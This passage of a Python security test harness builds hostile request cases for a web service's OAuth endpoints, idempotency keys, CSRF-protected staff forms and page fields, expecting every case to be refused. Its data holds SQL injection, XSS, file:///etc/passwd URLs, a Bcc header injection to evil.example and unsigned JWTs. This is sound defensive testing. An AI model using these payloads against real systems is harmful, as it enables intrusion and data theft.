            names="csrf_token",
        )
    )
    cases.append(
        Case(
            "the valid request on the session",
            "baseline",
            target.method,
            url,
            body,
            headers=(("X-CSRFToken", "{csrf}"),),
            acting=False,
            via="session",
            outcome=ACCEPT,
        )
    )
    return cases


def malformed_key_cases(target: Target, url: str, body: bytes | None) -> list[Case]:
    if target.method != "POST":
        return []
    keys = {
        "empty": "",
        "256 characters": "k" * 256,
        "a space": "has space",
        "a tab": "has\ttab",
        "latin-1": "cl\u00e9",
        "DEL": "key\x7f",
    }
    return [
        Case(
            f"Idempotency-Key with {label}",
            "idempotency",
            target.method,
            url,
            body,
            headers=(("Idempotency-Key", key),),
            statuses=frozenset({422}),
            names="Idempotency-Key",
        )
        for label, key in keys.items()
    ]


REPLAY_KEY = "hostile-replay-key-1"


def replay_corpus(target: Target, w: World, schema: Schema | None) -> list[Case]:
    """After a first request with REPLAY_KEY: the same key with anything else is refused."""
    url = target.url(w)
    base = target.body(w) if target.body else None
    body = dumps(base) if base is not None else None
    key = (("Idempotency-Key", REPLAY_KEY),)
    reused = frozenset({409, 422})
    malformed = frozenset({400})  # refused at intake, before the key is looked at
    cases = [
        Case("same key, same body", "idempotency", "POST", url, body, headers=key, outcome=NOOP),
        Case(
            "same key, query added",
            "idempotency",
            "POST",
            url + "?x=1",
            body,
            headers=key,
            statuses=reused,
        ),
    ]
    template = base if base is not None else {}
    if body is not None:
        cases.append(
            Case(
                "same key, no body", "idempotency", "POST", url, None, headers=key, statuses=reused
            )
        )
        spaced = json.dumps(base, indent=2).encode()
        cases.append(
            Case(
                "same key, same JSON spaced differently",
                "idempotency",
                "POST",
                url,
                spaced,
                headers=key,
                statuses=reused,
            )
        )
    variants: dict[str, Any] = {
        "server-owned field": with_value(template, ("status",), "forged-status"),
        "another tenant's id": with_value(template, ("agency_id",), w.other),
        "broken json": None,
    }
    for label, value in INJECTION.items():
        variants[f"injection {label}"] = with_value(
            template, ("note" if "note" in template else next(iter(template), "x"),), value
        )
    for label, document in variants.items():
        raw = b'{"a": ' if document is None else dumps(document)
        statuses = malformed if document is None else reused
        cases.append(
            Case(
                f"same key, {label}",
                "idempotency",
                "POST",
                url,
                raw,
                headers=key,
                statuses=statuses,
            )
        )
    if target.foreign:
        param, others = next(iter(target.foreign.items()))
        other_url = target.url(w, **{param: getattr(w, others[0])})
        cases.append(
            Case(
                "same key, another object",
                "idempotency",
                "POST",
                other_url,
                body,
                headers=key,
                statuses=reused,
            )
        )
    return cases


# --- OAuth and staff-page corpora ---------------------------------------------------------------

HOSTILE_VALUES: dict[str, str] = {
    **INJECTION,
    **CONTROL,
    "empty": "",
    "10,000 characters": "x" * 10_000,
    "unicode": "\u00e9\u4e2d\U0001f600",
}


def form(pairs: Sequence[tuple[str, str]]) -> bytes:
    return urllib.parse.urlencode(list(pairs)).encode()


FORM = "application/x-www-form-urlencoded"


def form_body_variants(fields_: dict[str, str]) -> dict[str, tuple[bytes, str]]:
    """The same form sent in hostile shapes: (body, content type)."""
    plain = list(fields_.items())
    first = plain[0][0]
    boundary = "hostileboundary"
    multipart = (
        "".join(
            f'--{boundary}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'
            for k, v in plain
        )
        + f"--{boundary}--\r\n"
    )
    return {
        "as JSON": (json.dumps(fields_).encode(), "application/json"),
        "as text": (form(plain), "text/plain"),
        "as multipart": (multipart.encode(), f"multipart/form-data; boundary={boundary}"),
        "broken multipart": (b"--x\r\nnonsense", "multipart/form-data; boundary=x"),
        "multipart without boundary": (form(plain), "multipart/form-data"),
        "field twice": (form([(first, "a"), *plain, (first, "b")]), FORM),
        "invalid UTF-8 percent-encoded": (form(plain).replace(b"=", b"=%FF%FE", 1), FORM),
        "raw invalid UTF-8": (form(plain) + b"&x=\xff\xfe", FORM),
        "UTF-16 body": (form(plain).decode().encode("utf-16"), FORM),
        "latin-1 charset": (form(plain), FORM + "; charset=latin-1"),
        "unknown field": (form([*plain, ("is_admin", "1")]), FORM),
        "1 MiB field": (form([(first, "x" * ONE_MIB)]), FORM),
        "10,000 fields": (b"&".join(b"f%d=1" % i for i in range(10_000)), FORM),
        "NUL in a field": (form([(first, "a\x00b"), *plain[1:]]), FORM),
        "semicolon separators": (form(plain).replace(b"&", b";"), FORM),
        "no body": (b"", FORM),
    }


def oauth_corpus(target: Target, w: World) -> list[Case]:
    client_id, secret = w.client_credentials
    good_basic = "Basic " + base64.b64encode(f"{client_id}:{secret}".encode()).decode()
    auths: dict[str, tuple[tuple[str, str], ...]] = {
        "no client authentication": (),
        "wrong secret": (
            ("Authorization", "Basic " + base64.b64encode(f"{client_id}:wrong".encode()).decode()),
        ),
        "unknown client": (
            ("Authorization", "Basic " + base64.b64encode(b"rhc_nobody:x").decode()),
        ),
        "not base64": (("Authorization", "Basic ***"),),
        "no colon": (("Authorization", "Basic " + base64.b64encode(client_id.encode()).decode()),),
        "not UTF-8": (("Authorization", "Basic " + base64.b64encode(b"\xff\xfe:\xff").decode()),),
        "empty basic": (("Authorization", "Basic "),),
        "bearer instead": (("Authorization", f"Bearer {w.tokens['narrow scope']}"),),
        "10,000-character id": (
            ("Authorization", "Basic " + base64.b64encode(b"a" * 10_000 + b":x").decode()),
        ),
        "injection in the id": (
            ("Authorization", "Basic " + base64.b64encode(b"' OR 1=1 --:x").decode()),
        ),
        "empty id and secret": (("Authorization", "Basic " + base64.b64encode(b":").decode()),),
        "good id, empty secret": (
            ("Authorization", "Basic " + base64.b64encode(f"{client_id}:".encode()).decode()),
        ),
        "good id, percent-encoded secret": (
            (
                "Authorization",
                "Basic " + base64.b64encode(f"{client_id}:%00{secret}".encode()).decode(),
            ),
        ),
        "basic header twice": (("Authorization", good_basic + ", " + good_basic),),
    }
    cases: list[Case] = []
    if target.endpoint == "oauth.token":
        params: dict[str, list[tuple[str, str]]] = {
            "no grant type": [],
            "password grant": [("grant_type", "password"), ("username", "a"), ("password", "b")],
            "code grant": [("grant_type", "authorization_code"), ("code", "x")],
            "implicit": [("grant_type", "implicit")],
            "refresh grant": [("grant_type", "refresh_token"), ("refresh_token", "x")],
            "grant type twice": [("grant_type", "client_credentials"), ("grant_type", "password")],
        }
        for label, value in HOSTILE_VALUES.items():
            params[f"grant type {label}"] = [("grant_type", value)]
            if value.strip():  # an empty scope asks for the client's own scopes: valid
                params[f"scope {label}"] = [("grant_type", "client_credentials"), ("scope", value)]
        for label, value in HOSTILE_VALUES.items():
            params[f"client_id {label} in the form"] = [
                ("grant_type", "client_credentials"),
                ("client_id", value),
                ("client_secret", secret),
            ]
        params["scope not granted"] = [
            ("grant_type", "client_credentials"),
            ("scope", "audit:read"),
        ]
        params["unknown scope"] = [
            ("grant_type", "client_credentials"),
            ("scope", "directory:read root"),
        ]
        params["client id in the form too"] = [
            ("grant_type", "client_credentials"),
            ("client_id", "rhc_other"),
        ]
        # with good client authentication every parameter set must still be refused
        for label, pairs in params.items():
            cases.append(
                Case(
                    f"good client, {label}",
                    "oauth parameters",
                    "POST",
                    target.path,
                    form(pairs),
                    FORM,
                    ((("Authorization", good_basic),)),
                    acting=False,
                )
            )
        # signed client assertions (private_key_jwt): junk where the JWT goes, junk claims
        # in an unsigned one, junk for its type; all refused as the client's credentials
        forged = {
            f"an unsigned assertion whose sub is {label}": ".".join(
                [
                    base64.urlsafe_b64encode(b'{"alg":"none"}').rstrip(b"=").decode(),
                    base64.urlsafe_b64encode(json.dumps({"sub": value, "iss": value}).encode())
                    .rstrip(b"=")
                    .decode(),
                    "",
                ]
            )
            for label, value in HOSTILE_VALUES.items()
        } | {f"assertion {label}": value for label, value in HOSTILE_VALUES.items()}
        for label, value in forged.items():
            for kind in (ASSERTION_TYPE, "urn:nonsense"):
                cases.append(
                    Case(
                        f"{label}, type {kind}",
                        "oauth client authentication",
                        "POST",
                        target.path,
                        form(
                            [
                                ("grant_type", "client_credentials"),
                                ("client_assertion_type", kind),
                                ("client_assertion", value),
                            ]
                        ),
                        FORM,
                        acting=False,
                    )
                )
        for label, auth in auths.items():
            for grant in ("client_credentials", "password"):
                cases.append(
                    Case(
                        f"{label}, {grant}",
                        "oauth client authentication",
                        "POST",
                        target.path,
                        form([("grant_type", grant)]),
                        FORM,
                        auth,
                        acting=False,
                    )
                )
        cases.append(
            Case(
                "secret in the form, wrong",
                "oauth client authentication",
                "POST",
                target.path,
                form(
                    [
                        ("grant_type", "client_credentials"),
                        ("client_id", client_id),
                        ("client_secret", "wrong"),
                    ]
                ),
                FORM,
                acting=False,
            )
        )
        for label, (raw, content_type) in form_body_variants(
            {"grant_type": "password", "scope": "admin"}
        ).items():
            for auth_label in ("good client", "wrong secret"):
                auth = (
                    (("Authorization", good_basic),)
                    if auth_label == "good client"
                    else auths["wrong secret"]
                )
                cases.append(
                    Case(
                        f"{auth_label}, body {label}",
                        "oauth body",
                        "POST",
                        target.path,
                        raw,
                        content_type,
                        auth,
                        acting=False,
                    )
                )
        return cases
    # revoke / introspect: a token parameter, a client to authenticate
    tokens = {
        "garbage": "garbage",
        "another tenant's token": w.tokens["other tenant"],
        "revoked": w.tokens["revoked"],
        "expired": w.tokens["expired"],
        **{f"token {label}": value for label, value in HOSTILE_VALUES.items()},
    }
    hints = ("access_token", "refresh_token", "<script>", "")
    for label, token in tokens.items():
        for hint in hints[:2]:
            pairs = [("token", token)] + ([("token_type_hint", hint)] if hint else [])
            cases.append(
                Case(
                    f"good client, {label}, hint {hint or 'none'}",
                    "oauth parameters",
                    "POST",
                    target.path,
                    form(pairs),
                    FORM,
                    ((("Authorization", good_basic),)),
                    acting=False,
                    outcome=NOOP,
                )
            )
    for label, value in HOSTILE_VALUES.items():
        cases.append(
            Case(
                f"good client, hint {label}",
                "oauth parameters",
                "POST",
                target.path,
                form([("token", "garbage"), ("token_type_hint", value)]),
                FORM,
                ((("Authorization", good_basic),)),
                acting=False,
                outcome=NOOP,
            )
        )
    for hint in hints[2:]:
        cases.append(
            Case(
                f"good client, hint {hint!r}",
                "oauth parameters",
                "POST",
                target.path,
                form([("token", "garbage"), ("token_type_hint", hint)]),
                FORM,
                ((("Authorization", good_basic),)),
                acting=False,
                outcome=NOOP,
            )
        )
    cases.append(
        Case(
            "good client, no token",
            "oauth parameters",
            "POST",
            target.path,
            form([]),
            FORM,
            ((("Authorization", good_basic),)),
            acting=False,
            outcome=NOOP,
        )
    )
    cases.append(
        Case(
            "good client, token twice",
            "oauth parameters",
            "POST",
            target.path,
            form([("token", "a"), ("token", "b")]),
            FORM,
            ((("Authorization", good_basic),)),
            acting=False,
            outcome=NOOP,
        )
    )
    for label, auth in auths.items():
        for token_label in ("narrow scope", "other tenant", "revoked", "garbage"):
            token = w.tokens.get(token_label, "garbage")
            cases.append(
                Case(
                    f"{label}, {token_label} token",
                    "oauth client authentication",
                    "POST",
                    target.path,
                    form([("token", token)]),
                    FORM,
                    auth,
                    acting=False,
                )
            )
    for label, (raw, content_type) in form_body_variants(
        {"token": w.tokens["other tenant"]}
    ).items():
        for auth_label in ("good client", "wrong secret"):
            auth = (
                (("Authorization", good_basic),)
                if auth_label == "good client"
                else auths["wrong secret"]
            )
            cases.append(
                Case(
                    f"{auth_label}, body {label}",
                    "oauth body",
                    "POST",
                    target.path,
                    raw,
                    content_type,
                    auth,
                    acting=False,
                    outcome=NOOP if auth_label == "good client" else REJECT,
                )
            )
    return cases


# forms that end a session (a staff member's, hers, her quick exit): only forged tokens,
# since a good one would sign the runner out
SIGN_OUTS = ("signin.logout", "me.sign_out", "me.quick_exit")
NEVER_ISSUED_CODE = "WXYZ-WXYZ-WXYZ-WXYZ"


def form_corpus(target: Target, w: World) -> list[Case]:
    """Staff pages: hostile fields with a good CSRF token, then without a good one."""
    path = target.path
    if target.endpoint == "signin.login":
        fields_ = {"email": w.people["intake"].email, "password": "wrong password"}
        hostile_fields: tuple[str, ...] = ("email", "password")
    elif target.endpoint == "me.sign_in":
        # a code never issued: refused whatever the PIN, writing only what a failed
        # sign-in writes (its counter and its audit record), as the wrong password above
        fields_ = {"code": NEVER_ISSUED_CODE, "pin": HER_PIN}
        hostile_fields = ("code", "pin")
    elif target.endpoint in SIGN_OUTS:
        fields_ = {"next": "/"}
        hostile_fields = ()
    elif target.endpoint in ("signin.forgot", "signin.sso_start"):
        # a well-formed address is always answered 200 (known or not, so as to tell
        # nothing): the baseline is one the form must refuse, and every variant with it
        fields_ = {"email": "not-an-address"}
        hostile_fields = ("email",)
    elif target.endpoint == "signin.reset":
        # no link works here, so every variant is refused: a bad link (400) or two
        # passwords that differ (422)
        fields_ = {
            "token": "not-a-reset-token",
            "password": "long enough password",
            "password_again": "long enough password",
        }
        hostile_fields = ("token", "password")
    else:
        fields_ = {"code": "12345x"}
        hostile_fields = ("code",)
    cases = []

    def add(
        label: str, category: str, pairs: list[tuple[str, str]], csrf: str | None, **kw: Any
    ) -> None:
        full = pairs + ([("csrf_token", csrf)] if csrf is not None else [])
        cases.append(
            Case(label, category, "POST", path, form(full), FORM, via="session", acting=False, **kw)
        )

    for name in hostile_fields:
        for label, value in HOSTILE_VALUES.items():
            pairs = [(k, value if k == name else v) for k, v in fields_.items()]
            add(
                f"{name}: {label}",
                "injection" if label in INJECTION else "control and bidi",
                pairs,
                "{csrf}",
            )
        for label, value in {
            "six zeros": "000000",
            "seven digits": "1234567",
            "spaced digits": "123 45x",
            "negative": "-12345",
            "full-width digits": "\uff11\uff12\uff13\uff14\uff15\uff16",
            "arabic-indic digits": "\u0661\u0662\u0663\u0664\u0665\u0666",
            "float": "1e5",
        }.items():
            pairs = [(k, value if k == name else v) for k, v in fields_.items()]
            add(f"{name}: {label}", "field value", pairs, "{csrf}")
    forged = {
        "missing": None,
        "empty": "",
        "garbage": "garbage",
        "another session's": "{foreign_csrf}",
        "last character changed": "{csrf_flipped}",
        "truncated": "{csrf_truncated}",
        "with a suffix": "{csrf}x",
        "injection": "<script>alert(1)</script>",
        "1,000 characters": "x" * 1000,
    }
    payloads = {"the normal form": list(fields_.items())}
    for label, value in itertools.islice(HOSTILE_VALUES.items(), 0, 20 if hostile_fields else 40):
        payloads[f"field {label}"] = [(k, value) for k in fields_]
    for csrf_label, token in forged.items():
        for payload_label, pairs in payloads.items():
            add(
                f"CSRF {csrf_label}, {payload_label}",
                "CSRF",
                pairs,
                token,
                statuses=frozenset({403}),
            )
    # a good token in another shape may be read (then the wrong password or code refuses);
    # signing out is refused only for the token, so it gets a forged one
    token = "garbage" if target.endpoint in SIGN_OUTS else "{csrf}"
    for label, (raw, content_type) in form_body_variants({**fields_, "csrf_token": token}).items():
        cases.append(
            Case(
                f"body {label}",
                "encoding",
                "POST",
                path,
                raw,
                content_type,
                via="session",
                acting=False,
            )
        )
    return cases


# --- staff page forms -----------------------------------------------------------------------
# Every page POST is a form: `application/x-www-form-urlencoded` plus `csrf_token`, validated
# with the API's marshmallow schemas (`web.forms.load`). The API targets above already run
# each schema's validators through the whole corpus, so a page target sends a few values per
# field: what a form can carry (strings only), aimed at the page's own layer (the flat-to-
# nested shaping, whitespace trimming, the re-rendered page, the redirect, the session).
#
# Per field, `free` text may be taken or refused; taken, the page it leads to must show it
# escaped (never raw) and nothing else may be in it; `strict` fields (ids, choices, numbers,
# dates) must be refused with the 4xx page, the error beside the field, nothing written.


@dataclass(frozen=True)
class PageForm:
    """One page form: its valid fields, which are free text, which must refuse junk."""

    valid: Callable[[World], list[tuple[str, str]]]
    free: tuple[str, ...] = ()  # free text: every string may be taken (then shown escaped)
    strict: dict[str, str] = field(default_factory=dict)  # field -> kind (STRICT_VALUES)
    shown: tuple[str, ...] = ()  # free fields the page after the POST displays
    baseline: str = ACCEPT  # EITHER where the valid form meets a state that may refuse it
    loose_names: tuple[str, ...] = ()  # the page marks these with a bare `.field-error`
    unmarked: tuple[str, ...] = ()  # not on this page's form: refused, no field to mark
    headers: tuple[tuple[str, str], ...] = ()  # e.g. htmx, whose answer is a 422 fragment
    nul_kept: tuple[str, ...] = ()  # fields never stored, where a NUL may be taken
    # a button: no user-typed field, only the CSRF token (the reason it takes no input)
    button: str = ""


# hostile values a non-free form field must refuse (422 naming it, or 404 for an id the
# caller may not see); `{other}` etc. are World ids
STRICT_VALUES: dict[str, dict[str, str]] = {
    "uuid": {
        "not a uuid": "not-a-uuid",
        "sql in an id": "' OR '1'='1",
        "markup in an id": "<script>alert(1)</script>",
        "uuid with a bad digit": "00000000-0000-0000-0000-00000000000g",
        "NUL in an id": "00000000-0000-0000-0000-000000000000\x00",
        "10,000 characters": "x" * 10_000,
    },
    "choice": {
        "not a choice": "not a choice!",
        "markup": "<img src=x onerror=alert(1)>",
        "a choice with a zero-width space": "routine\u200b",
        "sql": "'; DROP TABLE agency; --",
        "NUL": "a\x00",
        "10,000 characters": "x" * 10_000,
    },
    "number": {
        "negative": "-1",
        "beyond 64 bits": "9" * 30,
        "5000 digits": "9" * 5000,
        "NaN": "NaN",
        "float": "1.5",
        "markup": "<script>alert(1)</script>",
    },
    "datetime": {
        "words": "yesterday",
        "month 13": "2026-13-01T00:00",
        "year 0": "0000-01-01T00:00",
        "markup": '"><svg onload=alert(1)>',
        "NUL": "2026-01-01\x00",
    },
    "email": {
        "no at sign": "not-an-email",
        "markup": "<script>@x.example",
        "trailing newline inside": "a@b.example\nBcc: x@evil.example",
        "300 characters": "x" * 300 + "@example.org",
    },
    "jwks": {
        "not JSON": "{keys:",
        "markup": "<script>alert(1)</script>",
        "sql": "'; DROP TABLE api_client; --",
        "NUL": '{"keys": [\u0000]}',
        "a JSON string": '"keys"',
        "a private key": json.dumps({"keys": [PRIVATE_JWK]}),
        "a key with markup for its kid": json.dumps(
            {"keys": [{**CLIENT_JWKS["keys"][0], "kid": "<b>" * 100}]}
        ),
        "10,000 characters": "x" * 10_000,
    },
    "domain": {
        "no dot": "localhost",
        "markup": "<script>.example",
        "sql": "'; DROP TABLE agency; --",
        "NUL": "a\x00.example",
        "10,000 characters": "x" * 10_000,
    },
    "url": {
        "javascript": "javascript:alert(1)",
        "data": "data:text/html,<script>alert(1)</script>",
        "file": "file:///etc/passwd",
        "no host": "http://",
        "markup": '"><svg onload=alert(1)>',
    },
}
# free text: all of them in the first free field, the sample in the others
FREE_EXTRA = {
    "NUL": "na\x00me",
    "10,000 characters": "x" * 10_000,
    "only spaces": "   ",
}


def _local_time(delta: timedelta) -> str:
    return (clock_now() + delta).strftime("%Y-%m-%dT%H:%M")


def _button(reason: str) -> PageForm:
    return PageForm(lambda w: [], button=reason)


PAGE_FORMS: dict[str, PageForm] = {
    "outside.refer": PageForm(
        lambda w: [
            ("organisation_id", w.own_organisation),
            ("consent_id", w.own_outside_consent),
            ("purpose", "emergency_shelter"),
            ("urgency", "routine"),
            ("data_categories", "contact"),
        ],
        strict={
            "organisation_id": "uuid",
            "consent_id": "uuid",
            "purpose": "choice",
            "urgency": "choice",
            "data_categories": "choice",
        },
    ),
    "outside.add_organisation": PageForm(
        lambda w: [("name", "Hillside Refuge"), ("phone", "+1 555 0142"), ("email", "a@b.example")],
        free=("name", "phone"),
        strict={"email": "email"},
        shown=("name",),
    ),
    "outside.issue_link": _button("a button: a new link for the referral in the path"),
    "outside.revoke_link": _button("a button: revokes the link in the path"),
    "outside.withdraw": _button("a button: withdraws the referral in the path"),
    "outside_link.answer": PageForm(
        lambda w: [("action", "decline"), ("reason", "no_capacity")],
        strict={"action": "choice", "reason": "choice"},
    ),
    "admin.create_user": PageForm(
        lambda w: [
            ("email", "new.person@agency.example"),
            ("display_name", "New Person"),
            ("roles", "intake"),
        ],
        free=("display_name",),
        strict={"email": "email", "roles": "choice", "agency": "uuid"},
        shown=("display_name",),
    ),
    "admin.update_user": PageForm(
        lambda w: [("display_name", "Renamed Person"), ("roles", "provider")],
        free=("display_name",),
        strict={"roles": "choice"},
        shown=("display_name",),
    ),
    "admin.set_active": PageForm(
        lambda w: [("is_active", "false"), ("is_active.present", "1")],
        strict={},
    ),
    "admin.reset_totp": _button("a button: resets the person's second factor"),
    "admin.set_password": PageForm(
        lambda w: [("password", "a long enough new password 42")],
        free=("password",),  # any string may be a password; it is hashed, never shown
    ),
    "admin.create_api_client": PageForm(
        lambda w: [("name", "Partner System"), ("scopes", "directory:read")],
        free=("name",),
        strict={"scopes": "choice", "agency": "uuid"},
        shown=("name",),
    ),
    "admin.revoke_api_client": _button("a button: revokes the client in the path"),
    "admin.set_api_client_keys": PageForm(
        lambda w: [("jwks", json.dumps(CLIENT_JWKS))],
        strict={"jwks": "jwks"},
    ),
    "admin.subscribe_webhook": PageForm(
        lambda w: [("url", "https://partner.example/hook"), ("events", "referral.accepted")],
        strict={"url": "url", "events": "choice"},
    ),
    "admin.disable_webhook": _button("a button: turns off the webhook in the path"),
    "admin.new_service": PageForm(
        lambda w: [
            ("name", "Night Shelter"),
            ("category", "emergency_shelter"),
            ("status", "active"),
            ("description", "Beds"),
        ],
        free=("name", "description", "hours", "eligibility.notes", "location.city"),
        strict={
            "category": "choice",
            "status": "choice",
            "eligibility.min_age": "number",
            "url": "url",
            "email": "email",
            "location.latitude": "number",
        },
        shown=("name",),
        loose_names=(
            "category",
            "status",
            "url",
            "email",
            "location.latitude",
            "eligibility.min_age",
        ),
    ),
    "admin.service": PageForm(
        lambda w: [
            ("name", "Renamed Service"),
            ("category", "emergency_shelter"),
            ("status", "active"),
            ("description", "Beds"),
        ],
        free=("name", "description", "service_area", "eligibility.notes"),
        strict={
            "category": "choice",
            "status": "choice",
            "eligibility.max_age": "number",
            "url": "url",
        },
        shown=("name",),
        loose_names=("category", "status", "url", "eligibility.max_age"),
    ),
    "admin.update_agency": PageForm(
        lambda w: [("name", "Renamed Agency"), ("city", "Springfield"), ("region", "North")],
        free=("name", "city", "region"),
        strict={"agency": "uuid"},
        shown=("name",),
    ),
    "admin.update_sso": PageForm(
        lambda w: [
            ("issuer", "https://login.agency.example"),
            ("client_id", "hub"),
            ("client_secret", "a provider secret"),
            ("email_domains", "sso-page.example, second.example"),
            ("enabled", "on"),
        ],
        free=("client_id",),
        strict={"issuer": "url", "email_domains": "domain", "agency": "uuid"},
    ),
    "admin.agency_status": PageForm(
        lambda w: [("agency", w.other), ("status", "suspended")],
        strict={"status": "choice", "agency": "uuid"},
        unmarked=("status",),  # a hidden field of the suspend/reactivate button
    ),
    "admin.agency_participation": PageForm(
        lambda w: [("participation", "counts_only")],
        strict={"participation": "choice", "agency": "uuid"},
    ),
    "bundles.new": PageForm(
        lambda w: [
            ("urgency", "routine"),
            ("needs-0.category", "emergency_shelter"),
            ("needs-0.service_ids", w.third_service),
            ("needs-0.data_categories", "contact"),
            ("needs-0.note", "Needs a bed"),
        ],
        free=("needs-0.note",),
        strict={
            "urgency": "choice",
            "needs-0.category": "choice",
            "needs-0.service_ids": "uuid",
            "needs-0.data_categories": "choice",
        },
        loose_names=("urgency",),
        # the page looks up its errors by the schema's paths (`needs.0.service_ids.0`) and
        # marks a service it offered: a junk id or category is refused with the form's problem
        unmarked=("needs-0.category", "needs-0.service_ids", "needs-0.data_categories"),
    ),
    "bundles.hand_over": PageForm(
        lambda w: [("assignee_id", w.people["second_factor"].user_id), ("note", "Over to you")],
        free=("note",),
        strict={"assignee_id": "uuid"},
    ),
    "bundles.post_message": PageForm(
        lambda w: [("body", "When can she arrive?")], free=("body",), shown=("body",)
    ),
    # the referral is not waiting for an answer: the valid form may meet a 409 (state)
    "bundles.provide_info": PageForm(
        lambda w: [("answer", "She speaks Spanish")], free=("answer",), baseline=EITHER
    ),
    "bundles.withdraw": PageForm(lambda w: [("reason", "Found a place")], free=("reason",)),
    # the referral has not ended: refer-again meets a 409 (state) after the form is read
    "bundles.refer_again": PageForm(
        lambda w: [("service_id", w.fourth_service)],
        strict={"service_id": "uuid"},
        baseline=EITHER,
        # a hidden field of a button, whose form (and error) shows only once the referral ended
        unmarked=("service_id",),
    ),
    "coordinator.verify_chain": _button("a button: re-verifies the audit chain (reads only)"),
    "coordinator.verify_whole_chain": _button("a button: re-verifies all of the audit chain"),
    "coordinator.nudge": PageForm(
        lambda w: [("to", "receiver")],
        strict={"to": "choice"},
        unmarked=("to",),  # a hidden field of the nudge buttons: the queue says why
    ),
    "intake.consent": PageForm(
        lambda w: [
            ("recipients", w.third),
            ("purposes", "emergency_shelter"),
            ("data_categories", "contact"),
            ("method", "written"),
            ("signer", "survivor"),
            ("signer_authority", "Case worker"),
            ("signed_at", _local_time(-timedelta(hours=1))),
        ],
        free=("signer_authority",),
        strict={
            "recipients": "uuid",
            "purposes": "choice",
            "method": "choice",
            "signer": "choice",
            "signed_at": "datetime",
            "expires_at": "datetime",
        },
        loose_names=("recipients", "purposes", "method", "signer"),
    ),
    "intake.new_client": PageForm(
        lambda w: [("pii.name", "Jane Doe"), ("profile.language", "en")],
        free=("pii.name", "pii.contact", "pii.narrative", "pii.health"),
        strict={
            "reference": "choice",
            "profile.language": "choice",
            "profile.age_range": "choice",
            "pii.dob": "datetime",
            "do_not_refer": "uuid",
        },
        loose_names=("do_not_refer",),
    ),
    # the plan lives in the session; `back` is the search to return to (a redirect)
    # sent as htmx: without it a refusal is a flashed sentence and a 302 back to the search;
    # the fragment says the problem in one sentence (no field markup), so names are not read
    "intake.plan_add": PageForm(
        lambda w: [("service_id", w.third_service), ("back", "?q=shelter")],
        free=("back",),
        strict={"service_id": "uuid"},
        unmarked=("service_id",),
        headers=(("HX-Request", "true"),),
        nul_kept=("back",),  # only the link back to the search, never stored
    ),
    "intake.plan_remove": PageForm(
        lambda w: [("service_id", w.third_service), ("back", "?q=shelter")],
        free=("back",),
        strict={"service_id": "uuid"},
        unmarked=("service_id",),
        headers=(("HX-Request", "true"),),
        nul_kept=("back",),
    ),
    "intake.revoke": PageForm(lambda w: [("reason", "She asked")], free=("reason",)),
    "her_access.issue": PageForm(
        lambda w: [("pin", "2468"), ("pin_again", "2468"), ("safe_to_carry_only", "true")],
        # a checkbox, as on every page: anything but on/true/yes/1 is an unticked box
        strict={"pin": "number", "pin_again": "number"},
    ),
    "her_access.confirm_erasure": _button("a button: erases her record as she asked"),
    # her door: her own record only, so no id in the path; the ids in the form are hers
    "me.withdraw": PageForm(
        lambda w: [("agency_id", w.third), ("step", "yes")],
        strict={"agency_id": "uuid", "consent_id": "uuid"},
        # her page says what went wrong in one sentence (`me/problem.html`), beside no field
        unmarked=("agency_id", "consent_id"),
    ),
    "me.erase": PageForm(
        lambda w: [("step", "yes"), ("choice", "request")],
        strict={"choice": "choice"},
        unmarked=("choice",),
        # only compared with "yes", never stored: anything else (a NUL too) shows her the
        # confirmation step again, changing nothing
        nul_kept=("step",),
    ),
    # how to reach her is sealed with her contact data and never shown back on her page
    "me.contact": PageForm(lambda w: [("how", "Text only, after 6pm")], free=("how",)),
    "provider.act": PageForm(
        lambda w: [("question", "Does she have children with her?")],
        free=("question", "note"),
        strict={"position": "number", "eta": "datetime", "suggested_service_id": "uuid"},
        shown=("question",),
        # the request-info form has no such fields: refused (422), the form's problem says so
        unmarked=("position", "eta", "suggested_service_id"),
    ),
    "provider.message": PageForm(
        lambda w: [("body", "We have a bed tonight")], free=("body",), shown=("body",)
    ),
    # the referral the provider received is not taken up yet: the valid form may meet a 409
    "provider.hand_over": PageForm(
        lambda w: [("assignee_id", w.people["provider"].user_id), ("note", "Call her at six")],
        free=("note",),
        strict={"assignee_id": "uuid"},
        baseline=EITHER,
    ),
    "provider.capacity_set": PageForm(
        lambda w: [("total", "4"), ("available", "1"), ("note", "after the morning round")],
        free=("note",),
        strict={"total": "number", "available": "number"},
        loose_names=("total", "available"),  # the card's ids hold the service id
    ),
    "provider.capacity_hold": PageForm(
        lambda w: [("hold_minutes", "120"), ("night_hold_minutes", "480")],
        strict={"hold_minutes": "number", "night_hold_minutes": "number"},
        loose_names=("hold_minutes", "night_hold_minutes"),  # the card's ids hold the service id
    ),
    "provider.overflow_open": PageForm(
        lambda w: [
            ("starts_at", _local_time(timedelta(0))),
            ("ends_at", _local_time(timedelta(hours=8))),
            ("places", "3"),
            ("note", "Cots in the hall"),
        ],
        free=("note",),
        strict={"starts_at": "datetime", "ends_at": "datetime", "places": "number"},
        loose_names=("starts_at", "ends_at", "places", "note"),
    ),
    "provider.overflow_close": _button("a button: close the overflow places now"),
    "provider.extend_hold": PageForm(
        lambda w: [("reason", "transport_delayed")],
        strict={"reason": "choice", "minutes": "number"},
    ),
    "provider.capacity_less": _button("a button: one bed fewer free"),
    "provider.capacity_more": _button("a button: one bed more free"),
    "provider.capacity_confirm": _button("a button: the numbers are still true"),
}
PAGE_TARGETS = [
    Target("admin.create_user", "POST", "page", "/admin/users", "admin"),
    Target(
        "admin.update_user",
        "POST",
        "page",
        "/admin/users/{own_user}",
        "admin",
        foreign={"own_user": ("other_user",)},
    ),
    Target(
        "admin.set_active",
        "POST",
        "page",
        "/admin/users/{own_user}/active",
        "admin",
        foreign={"own_user": ("other_user",)},
    ),
    Target(
        "admin.reset_totp",
        "POST",
        "page",
        "/admin/users/{own_user}/reset-second-factor",
        "admin",
        foreign={"own_user": ("other_user",)},
    ),
    Target(
        "admin.set_password",
        "POST",
        "page",
        "/admin/users/{own_user}/password",
        "admin",
        foreign={"own_user": ("other_user",)},
    ),
    Target("admin.create_api_client", "POST", "page", "/admin/api-clients", "admin"),
    Target(
        "admin.set_api_client_keys",
        "POST",
        "page",
        "/admin/api-clients/{own_api_client}/keys",
        "admin",
        foreign={"own_api_client": ("other_api_client",)},
    ),
    Target(
        "admin.revoke_api_client",
        "POST",
        "page",
        "/admin/api-clients/{own_api_client}/revoke",
        "admin",
        foreign={"own_api_client": ("other_api_client",)},
    ),
    Target("admin.subscribe_webhook", "POST", "page", "/admin/webhooks", "admin"),
    Target(
        "admin.disable_webhook",
        "POST",
        "page",
